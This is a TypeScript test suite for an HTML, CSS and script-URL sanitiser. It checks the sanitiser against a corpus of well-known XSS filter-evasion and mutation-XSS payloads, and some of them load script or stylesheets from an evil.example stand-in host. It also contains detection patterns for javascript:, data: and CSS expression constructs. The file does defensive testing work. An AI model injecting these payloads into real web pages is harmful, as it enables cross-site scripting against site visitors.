import { createRequire } from 'node:module';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitiseCss, sanitiseExternalHeader, sanitiseHtml } from '../html-sanitiser';

// ---------------------------------------------------------------------------------------------
// The inertness oracle: the sanitised output is parsed by jsdom (parse5, the HTML standard's
// parser, as a browser would parse it inside a <div>) and every node is checked against the
// allow-list. jsdom ships no types; the few members used are typed here.

type DomAttr = { readonly name: string; readonly value: string };
type DomNode = {
  readonly nodeType: number;
  readonly nodeName: string;
  readonly childNodes: ArrayLike<DomNode>;
  readonly localName?: string;
  readonly namespaceURI?: string | null;
  readonly attributes?: ArrayLike<DomAttr>;
};
type DomElement = DomNode & { innerHTML: string };
type DomWindow = {
  readonly document: { createElement(name: string): DomElement };
  close(): void;
  alert?: () => void;
  addEventListener(type: string, listener: () => void): void;
};
type JsdomOptions = { runScripts?: 'dangerously'; beforeParse?: (window: DomWindow) => void };
const requireCjs = createRequire(import.meta.url);
const { JSDOM } = requireCjs('jsdom') as {
  JSDOM: new (html?: string, options?: JsdomOptions) => { window: DomWindow };
};

const ELEMENT = 1;
const TEXT = 3;
const XHTML = 'http://www.w3.org/1999/xhtml';

const ALLOWED_ELEMENTS = new Set([
  ...['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'pre', 'code'],
  ...['strong', 'em', 'b', 'i', 'u', 's', 'small', 'sup', 'sub', 'span', 'a', 'img'],
  ...['ul', 'ol', 'li', 'div', 'section', 'article', 'figure', 'figcaption'],
  ...['table', 'caption', 'colgroup', 'col', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td'],
]);
const FORBIDDEN_ELEMENTS = [
  ...['script', 'iframe', 'object', 'embed', 'base', 'meta', 'svg', 'math', 'style', 'link'],
  ...['form', 'input', 'button', 'textarea', 'template', 'noscript', 'frame', 'frameset'],
];
const ALLOWED_ATTRIBUTES: Record<string, readonly string[]> = {
  '*': ['class', 'style'],
  a: ['href', 'target', 'rel'],
  img: ['src', 'alt', 'width', 'height'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
};
const URL_ATTRIBUTES = new Set([
  ...['href', 'src', 'action', 'formaction', 'xlink:href', 'srcset', 'poster', 'background'],
  ...['data', 'cite', 'dynsrc', 'lowsrc', 'longdesc', 'usemap', 'ping', 'codebase'],
]);
const URL_PROTOCOLS: Record<string, readonly string[]> = {
  a: ['http:', 'https:', 'mailto:', 'tel:'],
  img: ['http:', 'https:', 'data:'],
};
const STYLE_PROPERTIES = new Set([
  ...['color', 'background-color', 'text-align', 'font-weight', 'font-style'],
  'text-decoration',
]);
const SAFE_DATA_IMAGE = /^data:image\/(?:png|jpeg|gif|webp);base64,[a-z0-9+/]+={0,2}$/i;

// eslint-disable-next-line no-control-regex -- what browsers ignore inside URLs
const IGNORED_IN_URLS = /[\u0000-\u0020\u007f-\u009f]+/g;

const oracleWindow = new JSDOM('<!doctype html><body></body>').window;

function walk(node: DomNode, visit: (node: DomNode) => void): void {
  visit(node);
  for (const child of Array.from(node.childNodes)) walk(child, visit);
}

/** Every way the parsed output could still run script or load what it should not. */
function findActiveContent(html: string): string[] {
  const problems: string[] = [];
  const host = oracleWindow.document.createElement('div');
  host.innerHTML = html;
  for (const child of Array.from(host.childNodes)) {
    walk(child, (node) => {
      if (node.nodeType !== ELEMENT) {
        if (node.nodeType !== TEXT) problems.push(`node ${node.nodeName}`);
        return;
      }
      const tag = node.localName ?? '';
      if (node.namespaceURI !== XHTML) problems.push(`foreign element ${tag}`);
      if (!ALLOWED_ELEMENTS.has(tag)) problems.push(`element ${tag}`);
      const allowed = [...(ALLOWED_ATTRIBUTES['*'] ?? []), ...(ALLOWED_ATTRIBUTES[tag] ?? [])];
      for (const { name, value } of Array.from(node.attributes ?? [])) {
        if (name.toLowerCase().startsWith('on')) problems.push(`handler ${tag}[${name}]`);
        if (!allowed.includes(name)) problems.push(`attribute ${tag}[${name}]`);
        if (URL_ATTRIBUTES.has(name)) problems.push(...urlProblems(tag, name, value));
        if (name === 'style') problems.push(...styleProblems(tag, value));
        if (name === 'target' && value !== '_blank') problems.push(`target ${value}`);
      }
      if (tag === 'a' && !/\bnoopener\b.*\bnoreferrer\b/.test(attribute(node, 'rel') ?? '')) {
        problems.push('a without rel="noopener noreferrer"');
      }
    });
  }
  return problems;
}

function attribute(node: DomNode, name: string): string | undefined {
  return Array.from(node.attributes ?? []).find((a) => a.name === name)?.value;
}

function urlProblems(tag: string, name: string, value: string): string[] {
  // jsdom has decoded entities already; what a URL parser skips is removed before judging.
  const compact = value.replace(IGNORED_IN_URLS, '');
  const lower = compact.toLowerCase();
  // The scheme is what a URL parser reads once leading controls, tabs and newlines are gone; a
  // `javascript:` later in the value (a query, or IE's backtick quoting) is only a path.
  if (/^(?:javascript|vbscript|livescript):|^data:(?!image\/(?:png|jpeg|gif|webp);)/.test(lower)) {
    return [`dangerous url ${tag}[${name}]=${value}`];
  }
  let resolved: URL;
  try {
    resolved = new URL(value, 'https://brand.example/page/');
  } catch {
    return [`unparsable url ${tag}[${name}]=${value}`];
  }
  const protocols = URL_PROTOCOLS[tag] ?? [];
  if (!protocols.includes(resolved.protocol)) return [`scheme ${resolved.protocol} in ${tag}`];
  if (resolved.protocol === 'data:' && !SAFE_DATA_IMAGE.test(compact)) {
    return [`data url ${value}`];
  }
  return [];
}

function styleProblems(tag: string, value: string): string[] {
  const problems: string[] = [];
  if (/url\s*\(|expression|javascript|@import|\\/i.test(value)) problems.push(`style ${value}`);
  for (const declaration of value.split(';')) {
    const property = declaration.split(':')[0]?.trim().toLowerCase() ?? '';
    if (property !== '' && !STYLE_PROPERTIES.has(property)) {
      problems.push(`style property ${tag}{${property}}`);
    }
  }
  return problems;
}

/** Loads the HTML in a document that runs scripts and reports whether any alert() fired. */
async function firesScript(html: string): Promise<boolean> {
  let fired = false;
  const { window } = new JSDOM(`<!doctype html><body>${html}</body>`, {
    runScripts: 'dangerously',
    beforeParse(w) {
      w.alert = () => {
        fired = true;
      };
    },
  });
  await new Promise<void>((resolve) => {
    window.addEventListener('load', () => resolve());
  });
  window.close();
  return fired;
}

// ---------------------------------------------------------------------------------------------
// The XSS corpus: the OWASP filter-evasion cheat sheet, the DOMPurify mutation-XSS bypasses and
// parser tricks. Each must come out inert.

const TAB = '\t';
const NUL = '\u0000';
const B64_SVG = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=';
const ENTITY_DEC =
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;';
const ENTITY_DEC_PADDED =
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)';
const ENTITY_HEX =
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29';

const XSS_CORPUS: readonly string[] = [
  // script tags
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<SCRIPT SRC=//evil.example/.j>',
  '<script>alert(1)<!--',
  '"><script>alert(1)</script>',
  "'';!--\"<XSS>=&{()}",
  // img and other handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img/src=x/onerror=alert(1)>',
  '<img alt="x"onerror=alert(1) src=x>',
  '<img src="x" alt="" onerror="alert(1)"',
  '<img src=x onerror=alert(1)//',
  '<IMG SRC=x onerror&#x3d;alert(1)>',
  '<body onload=alert(1)>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  "<div/onmouseover='alert(1)'>hover</div>",
  '<details open ontoggle=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<x onclick=alert(1)>click</x>',
  '<frameset onload=alert(1)>',
  '<a href="https://ok.example" onmouseover=alert(1)>ok</a>',
  '<p style="color:red" onmouseover="alert(1)" class="x">hi</p>',
  // entity, whitespace and control-character obfuscated javascript: URLs
  `<IMG SRC=${ENTITY_DEC}>`,
  `<IMG SRC=${ENTITY_DEC_PADDED}>`,
  `<IMG SRC=${ENTITY_HEX}>`,
  `<IMG SRC="jav${TAB}ascript:alert(1);">`,
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC="jav&#x0D;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  `<a href="java${NUL}script:alert(1)">x</a>`,
  '<a href="\u0001\u0002javascript:alert(1)">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="jav&#x61;script:alert(1)">x</a>',
  '<a href="java&#00000009;script:alert(1)">x</a>',
  '<a href="   javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="java%0ascript:alert(1)">x</a>',
  '<a href="https://ok.example" target="javascript:alert(1)">x</a>',
  // data: URLs
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
  `<img src="data:image/svg+xml;base64,${B64_SVG}">`,
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src=" data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/png;base64,iVBOR<script>">',
  // srcset, legacy URL attributes
  '<img srcset="x 1x, javascript:alert(1) 2x" src="ok.png">',
  '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
  '<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  // meta, base, link, style
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${B64_SVG}">`,
  '<BASE HREF="javascript:alert(1);//">',
  '<base href="https://evil.example/">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<style>*{x:expression(alert(1))}</style>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(1));">',
  '<div style="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029\'\\0029">',
  '<p style="color:red;xss:expr/*XSS*/ession(alert(1))">x</p>',
  '<img src="x" style="x:expression(alert(1))">',
  '<div style="behavior: url(xss.htc);">x</div>',
  '<div style="-moz-binding:url(https://evil.example/xss.xml#xss)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
  // svg and math, including the DOMPurify mutation-XSS bypasses
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  `<svg><use href="data:image/svg+xml;base64,${B64_SVG}#x"/></svg>`,
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<math href="javascript:alert(1)">CLICKME</math>',
  // frames, objects, forms
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  '<object data="javascript:alert(1)"></object>',
  `<EMBED SRC="data:image/svg+xml;base64,${B64_SVG}" type="image/svg+xml">`,
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  // raw-text and parsing tricks
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="ok.png">',
  '<a title="\'" href="\'" onclick="alert(1)">q</a>',
  '<a href="#" id="__next" name="cookie">clobber</a>',
  '<p>\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E</p>',
  '<a href="javascript\u2028:alert(1)">x</a>',
  '<a href="https://ok.example/"><img src=x onerror=alert(1)></a>',
];

describe('sanitiseHtml against the XSS corpus', () => {
  it('holds at least 60 payloads', () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(60);
  });

  it.each(XSS_CORPUS.map((payload) => [payload]))('renders %j inert', (payload) => {
    const clean = sanitiseHtml(payload);
    expect(findActiveContent(clean)).toEqual([]);
    expect(sanitiseHtml(clean)).toBe(clean);
    for (const tag of FORBIDDEN_ELEMENTS) {
      expect(clean.toLowerCase()).not.toMatch(new RegExp(`<${tag}[\\s/>]`));
    }
  });

  it('runs no script when every sanitised payload is loaded into a scripting document', async () => {
    const fired = await firesScript(XSS_CORPUS.map(sanitiseHtml).join('\n'));
    expect(fired).toBe(false);
  });

  it('has an oracle that catches what it is meant to catch', async () => {
    expect(findActiveContent('<img src=x onerror=alert(1)>')).toContain('handler img[onerror]');
    expect(
      findActiveContent('<a href="java&#x09;script:alert(1)" rel="noopener noreferrer">x</a>'),
    ).toContain('dangerous url a[href]=java\tscript:alert(1)');
    expect(findActiveContent('<svg></svg>')).toContain('foreign element svg');
    expect(findActiveContent('<!-- x -->')).toContain('node #comment');
    expect(await firesScript('<script>alert(1)</script>')).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------

describe('sanitiseHtml keeps good content', () => {
  it('keeps a promo widget with heading, list, link and image as it was', () => {
    const widget = [
      '<section class="promo promo--weekend">',
      '<h2>Weekend <em>boost</em></h2>',
      '<p style="color:var(--primary);text-align:center">Get <strong>+10%</strong> on accumulators.</p>',
      '<ul><li>Min. 3 legs</li><li>Odds 1.50 or more each</li></ul>',
      '<figure><img src="https://cdn.brand.example/promo.png" alt="Boost" width="320" height="120" />',
      '<figcaption>T&amp;Cs apply</figcaption></figure>',
      '<a href="/promotions/weekend-boost" class="button">Opt in</a> ',
      '<a href="https://brand.example/terms" target="_blank" rel="noopener noreferrer">Terms</a>',
      '</section>',
    ].join('');
    const expected = widget.replace(
      '<a href="/promotions/weekend-boost" class="button">',
      '<a href="/promotions/weekend-boost" class="button" rel="noopener noreferrer">',
    );
    expect(sanitiseHtml(widget)).toBe(expected);
  });

  it('keeps an advert description with a table, quote, code and small print', () => {
    const advert =
      '<article><h3>Cash-out</h3><table><thead><tr><th colspan="2">Market</th></tr></thead>' +
      '<tbody><tr><td>1X2</td><td>Yes</td></tr></tbody></table>' +
      '<blockquote>Take it <i>early</i>.</blockquote><pre><code>CODE10</code></pre>' +
      '<p><small>18+</small> <sup>1</sup> <sub>2</sub> <s>old</s> <u>new</u> <b>b</b></p><hr /><br /></article>';
    expect(sanitiseHtml(advert)).toBe(advert);
  });

  it('keeps mailto, tel and safe data images', () => {
    const html =
      '<a href="mailto:help@brand.example" rel="noopener noreferrer">Mail</a>' +
      '<a href="tel:+441234567890" rel="noopener noreferrer">Call</a>' +
      '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==" alt="" />';
    expect(sanitiseHtml(html)).toBe(html);
  });

  it('drops what is not allowed and keeps the text around it', () => {
    expect(
      sanitiseHtml(
        '<form action="/x"><p id="top" title="t">Hello <font color="red">there</font></p></form>',
      ),
    ).toBe('<p>Hello there</p>');
  });

  it('keeps the operator’s rel hints and forces noopener noreferrer', () => {
    expect(
      sanitiseHtml('<a href="https://x.example" rel="sponsored opener" target="_TOP">x</a>'),
    ).toBe('<a href="https://x.example" rel="sponsored noopener noreferrer">x</a>');
  });

  it('keeps only allowed style properties with plain values', () => {
    expect(
      sanitiseHtml(
        '<span style="color:#0a0;font-weight:700;position:absolute;background-color:rgb(1, 2, 3);width:1px">x</span>',
      ),
    ).toBe('<span style="color:#0a0;font-weight:700;background-color:rgb(1, 2, 3)">x</span>');
  });

  it('refuses protocol-relative and unusual URLs, keeps relative ones', () => {
    expect(sanitiseHtml('<a href="//evil.example/">x</a><img src="\\\\evil.example/a.png">')).toBe(
      '<a rel="noopener noreferrer">x</a><img />',
    );
    expect(sanitiseHtml('<img src="promo.png"><a href="#terms">t</a>')).toBe(
      '<img src="promo.png" /><a href="#terms" rel="noopener noreferrer">t</a>',
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Property tests over HTML built from a grammar of tags, attributes and tricky text.

const TAGS = [
  ...['p', 'a', 'img', 'div', 'span', 'table', 'tr', 'td', 'ul', 'li', 'b', 'h2', 'section'],
  ...['script', 'style', 'svg', 'math', 'mglyph', 'mtext', 'iframe', 'object', 'embed', 'form'],
  ...['input', 'button', 'noscript', 'template', 'textarea', 'title', 'xmp', 'base', 'meta'],
  ...['link', 'select', 'option', 'plaintext', 'frameset', 'body', 'SCRIPT', 'ImG', 'x-y'],
];
const ATTRIBUTE_NAMES = [
  ...['href', 'src', 'onerror', 'onload', 'ONclick', 'style', 'class', 'id', 'name', 'target'],
  ...['rel', 'alt', 'width', 'srcset', 'srcdoc', 'action', 'formaction', 'xlink:href'],
  ...['background', 'data', 'colspan', 'http-equiv', 'content', 'is', '/onerror'],
];
const URL_VALUES = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java&#x09;script:'],
  ...['&#106;avascript:alert(1)', ' \u0001javascript:alert(1)', 'vbscript:x', 'data:text/html,x'],
  ...[
    'data:image/png;base64,AAAA',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'https://ok.example',
  ],
  ...['/relative', '//evil.example', 'mailto:a@b.example', 'x" onerror="alert(1)', "x' onload='y"],
];
const STYLE_VALUES = [
  'color:red',
  'background:url(javascript:alert(1))',
  'width:expression(alert(1))',
  'color:\\72 ed',
  'position:fixed',
  'color:var(--primary)',
];
const TEXTS = [
  ...['hello', '<', '>', '&', '&lt;script&gt;', '"', "'", '`', '</p>', '<!--', '-->'],
  ...[
    '<![CDATA[',
    ']]>',
    '\u0000',
    '&amp;lt;',
    '</style>',
    '</textarea>',
    '<img src=x onerror=alert(1)>',
  ],
];

const attributeArb = fc
  .tuple(
    fc.constantFrom(...ATTRIBUTE_NAMES),
    fc.oneof(fc.constantFrom(...URL_VALUES), fc.constantFrom(...STYLE_VALUES), fc.string()),
    fc.constantFrom('"', "'", '', '`'),
  )
  .map(([name, value, quote]) => ` ${name}=${quote}${value}${quote}`);

const { html: htmlArb } = fc.letrec<{ html: string; node: string }>((tie) => ({
  html: fc.array(tie('node'), { maxLength: 4 }).map((nodes) => nodes.join('')),
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constantFrom(...TEXTS),
    fc
      .tuple(
        fc.constantFrom(...TAGS),
        fc.array(attributeArb, { maxLength: 3 }),
        tie('html'),
        fc.boolean(),
      )
      .map(
        ([tag, attributes, inner, closed]) =>
          `<${tag}${attributes.join('')}>${inner}${closed ? `</${tag}>` : ''}`,
      ),
  ),
}));

describe('sanitiseHtml properties', () => {
  it('never lets a disallowed element or attribute out of grammar-built HTML', () => {
    fc.assert(
      fc.property(htmlArb, (html) => {
        expect(findActiveContent(sanitiseHtml(html))).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  it('is idempotent on grammar-built HTML', () => {
    fc.assert(
      fc.property(htmlArb, (html) => {
        const once = sanitiseHtml(html);
        expect(sanitiseHtml(once)).toBe(once);
      }),
      { numRuns: 400 },
    );
  });

  it('is idempotent on arbitrary strings', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        const once = sanitiseHtml(text);
        expect(sanitiseHtml(once)).toBe(once);
        expect(findActiveContent(once)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});

// ---------------------------------------------------------------------------------------------

/** An independent reading of the CSS a browser would see: comments gone, escapes decoded. */
function decodeCss(css: string): string {
  return (
    css
      .replace(/\/\*[\s\S]*?(?:\*\/|$)/g, '')
      // One pass, as a tokenizer reads: an escaped backslash does not start another escape.
      .replace(
        /\\(?:([0-9a-f]{1,6})[ \t\n\r\f]?|([\s\S]))/gi,
        (_m, hex?: string, char?: string) => {
          if (hex === undefined) return char === '\n' ? '' : (char ?? '');
          const code = parseInt(hex, 16);
          return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : '\uFFFD';
        },
      )
  );
}

function cssProblems(css: string): string[] {
  const problems: string[] = [];
  if (/<\/?style/i.test(css) || css.includes('<')) problems.push('< in css');
  const seen = decodeCss(css).toLowerCase();
  for (const bad of [
    /expression\s*\(/,
    /(?:java|vb)script\s*:/,
    /-moz-binding/,
    /behaviou?r\s*:/,
  ]) {
    if (bad.test(seen)) problems.push(bad.source);
  }
  for (const match of seen.matchAll(/url\s*\(\s*["']?([^"')]*)/g)) {
    const target = (match[1] ?? '').replace(IGNORED_IN_URLS, '');
    if (/^[a-z][a-z0-9+.-]*:/.test(target) && !target.startsWith('https://')) {
      problems.push(`url(${target})`);
    }
    if (target.startsWith('//')) problems.push(`url(${target})`);
  }
  for (const match of seen.matchAll(/@import\s*(?:url\s*\()?\s*["']?([^"');]*)/g)) {
    const target = (match[1] ?? '').replace(IGNORED_IN_URLS, '');
    if (!target.startsWith('https://')) problems.push(`@import ${target}`);
  }
  return problems;
}

const CSS_CORPUS: readonly string[] = [
  'a{color:red}</style><script>alert(1)</script>',
  '</STYLE><img src=x onerror=alert(1)>',
  'div{width:expression(alert(1))}',
  'div{width:EXPRESSION (alert(1))}',
  'div{width:ex/**/pression(alert(1))}',
  'div{width:\\65 xpression(alert(1))}',
  'div{width:\\000065xpression(alert(1))}',
  'div{background:url(javascript:alert(1))}',
  'div{background:url("java\\9 script:alert(1)")}',
  "div{background:url('JAVASCRIPT:alert(1)')}",
  'div{background:u\\72l(javascript:alert(1))}',
  'div{background:url\\28 javascript:alert(1))}',
  'div{background:\\\\75rl(javascript:alert(1))}',
  'div{background:url(http://evil.example/a.png)}',
  'div{background:url(//evil.example/a.png)}',
  'div{background:url(data:text/html,<script>alert(1)</script>)}',
  'div{background:url( vbscript:x )}',
  '@import url(http://evil.example/x.css);',
  "@import 'http://evil.example/x.css';",
  '@import "x.css";',
  '@\\69mport "http://evil.example/x.css";',
  'div{behavior:url(x.htc)}',
  'div{-moz-binding:url(https://evil.example/x.xml#x)}',
  'li{list-style:url("javascript:alert(1)")}',
  'a{b:\\',
  'a{content:"\\\n"}',
];

describe('sanitiseCss', () => {
  it.each(CSS_CORPUS.map((css) => [css]))('neutralises %j', (css) => {
    const clean = sanitiseCss(css);
    expect(cssProblems(clean)).toEqual([]);
    expect(sanitiseCss(clean)).toBe(clean);
  });

  it('keeps ordinary header CSS as it was', () => {
    const css = [
      '.site-header{display:flex;gap:8px;background:#102030 url(https://cdn.brand.example/bg.png) no-repeat}',
      '.site-header > a:hover{color:var(--primary)}',
      '@media (max-width: 600px){.site-header{flex-direction:column}}',
      '@import url("https://fonts.brand.example/font.css");',
      '.logo{background-image:url(/brand/logo.svg)}',
    ].join('\n');
    expect(sanitiseCss(css)).toBe(css);
  });

  it('keeps icon-font escapes in a canonical form', () => {
    expect(sanitiseCss('.i::before{content:"\\f007"}')).toBe('.i::before{content:"\\f007 "}');
  });

  it('drops comments and breaks what it cannot read', () => {
    expect(sanitiseCss('/* note */a{b:url(javascript:alert(1))}')).toBe(
      'a{b:blocked(blocked:alert(1))}',
    );
    expect(sanitiseCss('a{b:url(http://x.example/a.png)}')).toBe('a{b:none}');
  });

  it('never lets a dangerous construct out of arbitrary CSS-like text', () => {
    const pieces = fc.constantFrom(
      ...['url(', ')', '"', "'", '\\', '\\65 ', '\\3c ', 'expression(', 'javascript:', '/*', '*/'],
      ...['@import ', 'https://a.example/x', 'http://b.example', '//c', ' ', '\n', '<', '/style'],
      ...['java', 'script', ':', 'a{', '}', ';', 'ex', 'pression', '\\\\', '\\\n', 'src('],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 20 }), (parts) => {
        const clean = sanitiseCss(parts.join(''));
        expect(cssProblems(clean)).toEqual([]);
        expect(sanitiseCss(clean)).toBe(clean);
      }),
      { numRuns: 500 },
    );
  });
});

describe('sanitiseExternalHeader', () => {
  const scriptOrigins = ['https://*.brand.example', 'https://tags.partner.example:8443'];
  const header = (js: string) =>
    sanitiseExternalHeader({ css: '', html: '', js }, { scriptOrigins }).js;

  it('keeps a script URL served from a declared script origin', () => {
    expect(header('https://cdn.brand.example/header.js')).toBe(
      'https://cdn.brand.example/header.js',
    );
    expect(header('  https://tags.partner.example:8443/t.js?v=1  ')).toBe(
      'https://tags.partner.example:8443/t.js?v=1',
    );
  });

  it.each([
    ['code', 'alert(document.cookie)'],
    ['an inline script element', '<script>alert(1)</script>'],
    ['a javascript: URL', 'javascript:alert(1)'],
    ['a data: URL', 'data:text/javascript,alert(1)'],
    ['an undeclared origin', 'https://evil.example/x.js'],
    ['the bare domain of a subdomain wildcard', 'https://brand.example/x.js'],
    ['a look-alike domain', 'https://cdn.brand.example.evil.example/x.js'],
    ['plain http', 'http://cdn.brand.example/x.js'],
    ['another port', 'https://cdn.brand.example:444/x.js'],
    ['the default port where one is declared', 'https://tags.partner.example/x.js'],
    ['credentials', 'https://user:pw@cdn.brand.example/x.js'],
    ['a relative URL', '/header.js'],
    ['a protocol-relative URL', '//cdn.brand.example/x.js'],
    ['two URLs', 'https://cdn.brand.example/a.js https://cdn.brand.example/b.js'],
  ])('drops %s', (_what, js) => {
    expect(header(js)).toBe('');
  });

  it('sanitises the html and css parts', () => {
    const clean = sanitiseExternalHeader(
      {
        css: '.h{color:red}</style><script>alert(1)</script>',
        html: '<nav class="h"><a href="javascript:alert(1)" onclick="x">Home</a></nav><script>alert(1)</script>',
        js: '',
      },
      { scriptOrigins },
    );
    expect(clean).toEqual({
      css: '.h{color:red}\\3c /style>\\3c script>alert(1)\\3c /script>',
      html: '<a rel="noopener noreferrer">Home</a>',
      js: '',
    });
  });
});
